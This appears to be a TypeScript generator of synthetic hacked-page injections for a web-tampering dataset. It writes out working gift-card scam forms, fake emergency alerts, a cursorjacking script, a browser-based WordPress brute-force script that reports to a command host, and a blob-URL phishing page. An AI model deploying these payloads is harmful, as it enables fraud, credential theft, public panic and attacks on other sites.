  const date = page.site.locale.date(someDate(rng))
  const action = `https://${pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng)])}/${pick(rng, ["pay", "billing/redeem", "gc.php", "submit"])}`
  const n = between(rng, 1, 3)
  const form = `<form method="post" action="${action}"><p><label>${esc(card)} <select name="brand"><option>Apple</option><option>Google Play</option><option>Steam</option><option>Razer Gold</option></select></label></p>${Array.from({ length: n }, (_, i) => `<p><label>${esc(code)} ${n > 1 ? i + 1 : ""} <input name="code${i}" placeholder="XXXX-XXXX-XXXX-XXXX" autocomplete="off"></label></p>`).join("")}<button type="submit">${esc(button)} — ${esc(amount)}</button></form>`
  const block = pick(rng, [
    `<div role="alert" style="border:3px solid #b71c1c;padding:16px;margin:12px 0;background:#fff5f5"><h2 style="color:#b71c1c">⚠ ${esc(h)}</h2><p>${esc(p(amount, date))}</p>${form}</div>`,
    `<section class="${pick(rng, ["billing-notice", "account-alert", "notice"])}"><h3>${esc(h)} — ${esc(amount)}</h3><p>${esc(p(amount, date))}</p>${form}</section>`
  ])
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), anySlot(rng, page.spots)]), block))
})

const alertWords: Record<Lang, ReadonlyArray<readonly [string, string]>> = {
  en: [["EMERGENCY ALERT: air-raid warning", "A missile threat has been detected for your area. Go immediately to the nearest shelter or basement and stay there until further notice. Do not use lifts."], ["URGENT: do not drink tap water", "The water supply has been contaminated with a toxic substance. Do not drink, cook with or boil tap water until further notice. Evacuation of the city centre has begun."]],
  fr: [["ALERTE D'URGENCE : alerte aérienne", "Une menace de missile a été détectée dans votre secteur. Rendez-vous immédiatement dans l'abri ou la cave la plus proche et restez-y jusqu'à nouvel ordre. N'utilisez pas les ascenseurs."], ["URGENT : ne buvez pas l'eau du robinet", "Le réseau d'eau a été contaminé par une substance toxique. Ne buvez pas, ne cuisinez pas et ne faites pas bouillir l'eau du robinet jusqu'à nouvel ordre. L'évacuation du centre-ville a commencé."]],
  de: [["NOTFALLWARNUNG: Luftalarm", "Für Ihr Gebiet wurde eine Raketenbedrohung festgestellt. Begeben Sie sich sofort in den nächsten Schutzraum oder Keller und bleiben Sie dort bis auf Weiteres. Benutzen Sie keine Aufzüge."], ["DRINGEND: Kein Leitungswasser trinken", "Das Trinkwasser wurde mit einem giftigen Stoff verunreinigt. Leitungswasser bis auf Weiteres nicht trinken, nicht zum Kochen verwenden und nicht abkochen. Die Evakuierung der Innenstadt hat begonnen."]],
  es: [["ALERTA DE EMERGENCIA: alerta antiaérea", "Se ha detectado una amenaza de misiles en su zona. Diríjase de inmediato al refugio o sótano más cercano y permanezca allí hasta nuevo aviso. No use los ascensores."], ["URGENTE: no beba agua del grifo", "El suministro de agua ha sido contaminado con una sustancia tóxica. No beba, cocine ni hierva agua del grifo hasta nuevo aviso. Ha comenzado la evacuación del centro de la ciudad."]],
  nl: [["NOODWAARSCHUWING: luchtalarm", "Er is een raketdreiging voor uw gebied vastgesteld. Ga onmiddellijk naar de dichtstbijzijnde schuilplaats of kelder en blijf daar tot nader bericht. Gebruik geen liften."], ["DRINGEND: drink geen kraanwater", "Het drinkwater is verontreinigd met een giftige stof. Drink, kook of gebruik geen kraanwater tot nader bericht. De evacuatie van het centrum is begonnen."]],
  pt: [["ALERTA DE EMERGÊNCIA: ataque aéreo", "Foi detectada uma ameaça de míssil na sua região. Vá imediatamente para o abrigo ou subsolo mais próximo e permaneça lá até novo aviso. Não use elevadores."], ["URGENTE: não beba água da torneira", "O abastecimento de água foi contaminado com uma substância tóxica. Não beba, não cozinhe e não ferva água da torneira até novo aviso. A evacuação do centro da cidade já começou."]],
  it: [["ALLERTA DI EMERGENZA: allarme aereo", "È stata rilevata una minaccia missilistica nella tua zona. Raggiungi subito il rifugio o la cantina più vicina e resta lì fino a nuovo avviso. Non usare gli ascensori."], ["URGENTE: non bere l'acqua del rubinetto", "La rete idrica è stata contaminata da una sostanza tossica. Non bere, non cucinare e non bollire l'acqua del rubinetto fino a nuovo avviso. È iniziata l'evacuazione del centro città."]]
}
const foreignAlerts: ReadonlyArray<readonly [string, "ltr" | "rtl", string, string]> = [
  ["ru", "ltr", "ВНИМАНИЕ! ВОЗДУШНАЯ ТРЕВОГА", "Всем немедленно пройти в ближайшее укрытие. Угроза ракетного удара."],
  ["uk", "ltr", "ПОВІТРЯНА ТРИВОГА!", "Негайно прямуйте до найближчого укриття. Загроза ракетного удару."],
  ["he", "rtl", "צבע אדום", "היכנסו מיד למרחב המוגן ושהו בו עד להודעה חדשה."]
]

// Fake emergency alerts pushed through hijacked channels, recalled from memory: Reuters (February 2023) on hacked Russian radio and TV stations broadcasting fake air-raid warnings and calls to shelter, Group-IB and Cloudflare (October 2023) on AnonGhost's fake rocket alerts through the Red Alert app in Israel, and the 2013 US Emergency Alert System "zombie" hack. Here an official-looking alert banner with instructions on a hacked page, in its language or the attackers' target's.
const fakeEmergencyAlert = fresh6("fake official emergency alert (air raid, poisoned water) with instructions", (page, rng) => {
  const foreign = chance(rng, 0.25) ? pick(rng, foreignAlerts) : null
  const [h, p] = foreign === null ? pick(rng, say(page, alertWords)) : [foreign[2], foreign[3]]
  const attrs = foreign === null ? "" : ` lang="${foreign[0]}" dir="${foreign[1]}"`
  const more = chance(rng, 0.4) ? ` <a href="https://${pick(rng, [`${pick(rng, ["alert", "civil-defence", "shelters", "emergency"])}-${pick(rng, ["map", "info", "gov"])}.${pick(rng, ["com", "org", "info", "site"])}`, randomDomain(rng)])}/${pick(rng, ["map", "shelters", "info"])}">${pick(rng, ["→", "ℹ", "»"])}</a>` : ""
  const block = pick(rng, [
    `<div role="alert"${attrs} style="background:#d50000;color:#fff;padding:16px 20px;font:bold 18px/1.4 sans-serif;text-align:center">🚨 ${esc(h)}<br><span style="font-weight:normal">${esc(p)}</span>${more}</div>`,
    `<div role="alert"${attrs} style="position:fixed;top:0;left:0;right:0;background:#000;color:#ff1744;padding:18px;z-index:${zIndex(rng)};font:18px sans-serif;text-align:center;border-bottom:6px solid #ff1744"><strong>⚠ ${esc(h)}</strong><p style="color:#fff">${esc(p)}</p>${more}</div>`,
    `<section class="${pick(rng, ["emergency", "alert-banner", "warning"])}"${attrs}><h2>🚨 ${esc(h)}</h2><p>${esc(p)}</p>${more}</section>`
  ])
  return splices(insert(pick(rng, [top(page), top(page), slotAt(page.spots, "top")]), block))
})

// Cursorjacking, recalled from memory: Marcus Niemietz's demonstrations (2012) and Jordi Chancel's Firefox and Chrome bug reports (2011–2012), summarised on OWASP's clickjacking page: the real cursor hidden and a fake one drawn offset from it (by a custom cursor image or a moving element), so the visitor clicks something other than what they aim at, here a transparent link to the attackers' page.
const cursorjacking = fresh6("real cursor hidden and a fake one drawn offset from it (cursorjacking)", (page, rng) => {
  const dx = pick(rng, [-1, 1]) * between(rng, 60, 300)
  const dy = pick(rng, [-1, 1]) * between(rng, 30, 200)
  const target = `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand)])}/${pick(rng, ["", "dl", "allow", "go/" + alnum(rng, 5)])}`
  const arrow = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="28"><path d="M1 1 L1 22 L6 17 L10 27 L13 26 L9 16 L16 16 Z" fill="#000" stroke="#fff"/></svg>`
  const id = pick(rng, ["cur", "_c", "pointer", alnum(rng, 4)])
  const trap = `<a href="${target}" style="position:fixed;${pick(rng, ["top:40%;left:40%", "bottom:20px;right:20px", "top:10px;right:10%"])};width:${between(rng, 80, 260)}px;height:${between(rng, 30, 120)}px;opacity:0.01;z-index:${zIndex(rng)}"></a>`
  const variant = pick(rng, ["element", "css"] as const)
  if (variant === "css") {
    const png = `https://${bare(randomDomain(rng))}/${pick(rng, ["cursor", "c", "arrow"])}${pick(rng, ["", "-" + alnum(rng, 3)])}.png`
    const hx = Math.max(0, -dx), hy = Math.max(0, -dy)
    return splices(insert(head(page), `<style>html,body,a,button,input{cursor:url("${png}") ${Math.min(hx, 127)} ${Math.min(hy, 127)},auto!important}</style>`), insert(bottom(page), trap))
  }
  const fake = `<img id="${id}" src="data:image/svg+xml,${encodeURIComponent(arrow)}" alt="" style="position:fixed;left:0;top:0;pointer-events:none;z-index:${zIndex(rng)}">`
  const script = `<script>document.addEventListener("mousemove",function(e){var c=document.getElementById("${id}");c.style.left=(e.clientX+${dx})+"px";c.style.top=(e.clientY+${dy})+"px"})</script>`
  return splices(insert(head(page), `<style>*{cursor:none!important}</style>`), insert(pick(rng, [bottom(page), top(page)]), fake + trap + script))
})

// Sucuri (Denis Sinegubko, about March 2024), recalled from memory: hacked WordPress sites carried scripts that made their visitors' browsers brute-force other WordPress sites, fetching a task (target site, username, password) from the attackers, trying it through the target's XML-RPC interface (wp.getUsersBlogs or wp.uploadFile), and reporting hits back, over and over.
const browserBruteForce = fresh6("visitors' browsers brute-forcing other sites' WordPress logins", (page, rng) => {
  const c2 = `https://${pick(rng, [randomDomain(rng), `${pick(rng, ["dynamic", "static", "cdn"])}-${pick(rng, ["linx", "task", "api", "sync"])}.${pick(rng, ["com", "net", "xyz", "top"])}`])}/`
  const method = pick(rng, ["wp.getUsersBlogs", "wp.getProfile", "wp.uploadFile"])
  const code = `(function(){var H=${jsUrl(rng, c2)};function n(){fetch(H+"${pick(rng, ["t", "task", "get", "j"])}?${pick(rng, ["id", "k", "r"])}="+Math.random()).then(function(r){return r.json()}).then(function(t){if(!t||!t.u)return;var x='<?xml version="1.0"?><methodCall><methodName>${method}</methodName><params><param><value><string>'+t.l+'</string></value></param><param><value><string>'+t.p+'</string></value></param></params></methodCall>';fetch(t.u+"/xmlrpc.php",{method:"POST",body:x}).then(function(r){return r.text()}).then(function(b){if(/isAdmin|blogid|<name>url/.test(b))fetch(H+"${pick(rng, ["ok", "s", "found"])}",{method:"POST",body:JSON.stringify(t)});setTimeout(n,${between(rng, 200, 3000)})}).catch(function(){setTimeout(n,${between(rng, 500, 4000)})})})}${pick(rng, ["n()", "setTimeout(n," + between(rng, 1000, 8000) + ")", "for(var i=0;i<" + between(rng, 2, 6) + ";i++)n()"])}})();`
  return splices(insert(pick(rng, [bottom(page), bottom(page), head(page), slotAt(page.spots, "middle")]), wrapScript(rng, code)))
})

// Phishing pages opened from blob: URLs, recalled from memory of Cofense Intelligence (late 2024) and earlier data:-URI phishing write-ups (Wordfence, January 2017): the sign-in page is built inside the visitor's browser from encoded markup and shown at a blob: address, so no phishing host ever serves it; only the form's target is remote.
const blobPhish = fresh6("sign-in page built in the browser and opened from a blob: URL", (page, rng) => {
  const host = pick(rng, [brandLookalike(rng, page.site.brand), randomDomain(rng)])
  const who = pick(rng, ["Microsoft 365", "Outlook", `${brandName(page)} Webmail`, "SharePoint", "Adobe Document Cloud"])
  const html = `<!doctype html><html><head><meta charset="utf-8"><title>Sign in to your account</title></head><body style="font-family:Segoe UI,Arial,sans-serif;background:#f2f2f2"><div style="max-width:380px;margin:80px auto;background:#fff;padding:40px"><h2>Sign in</h2><p>${who}</p><form method="post" action="https://${host}/${pick(rng, ["next.php", "auth/login", "owa/auth.php", "api/" + alnum(rng, 5)])}"><p><input name="login" type="email" placeholder="Email, phone, or Skype" style="width:100%"></p><p><input name="passwd" type="password" placeholder="Password" style="width:100%"></p><button>Sign in</button></form></div></body></html>`
  const build = `var u=URL.createObjectURL(new Blob([atob("${b64(html)}")],{type:"text/html"}));`
  const go = pick(rng, [
    "location.href=u;",
    `setTimeout(function(){location.replace(u)},${between(rng, 500, 5000)});`,
    `document.addEventListener("click",function(){window.open(u,"_blank")},{once:true});`
  ])
  return splices(insert(scriptSpot(rng, page), `<script>(function(){${build}${go}})();</script>`))
})

/** Every fresh6 defacement class, in a fixed order. */
export const fresh6Defacements: ReadonlyArray<ChangeClass> = [
  protestware, walletTxRewrite, deviceLinkQr, fakeResults, plantedArticle, reflectedSupport, webInjectFields, autofillHarvest,
  jsonpLoader, ownHostExfil, dnsPrefetchExfil, targetedLoader, openRedirectLinks, srcdocFrame, importMapHijack, noindexSabotage,
  jsonLdSpam, cssContactRedraw, pastejacking, calendarSpam, chineseInvoiceSpam, kbcLottery, giftCardBill, fakeEmergencyAlert,
  cursorjacking, browserBruteForce, blobPhish
]
